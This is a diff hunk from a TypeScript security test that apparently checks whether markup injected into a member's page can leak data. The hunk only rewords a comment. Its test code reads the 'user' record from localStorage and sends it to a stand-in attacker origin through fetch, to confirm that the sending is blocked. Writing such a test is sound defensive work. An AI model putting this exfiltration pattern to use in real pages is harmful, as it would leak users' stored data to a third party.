@@ -152,7 +152,7 @@ describe('markup injected into a member’s page [G8]', () => {
         injected.querySelector<HTMLElement>('#injected')?.click();
         injected.querySelector<HTMLElement>('#sent')?.click();
         const record = localStorage.getItem('user');
-        // Assumes that a script runs all the same: it can read the record but cannot send it.
+        // Simulates a script that runs anyway: it can read the record but cannot send it.
         const sent = await fetch(`${evilOrigin}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
           () => true,
           () => false,
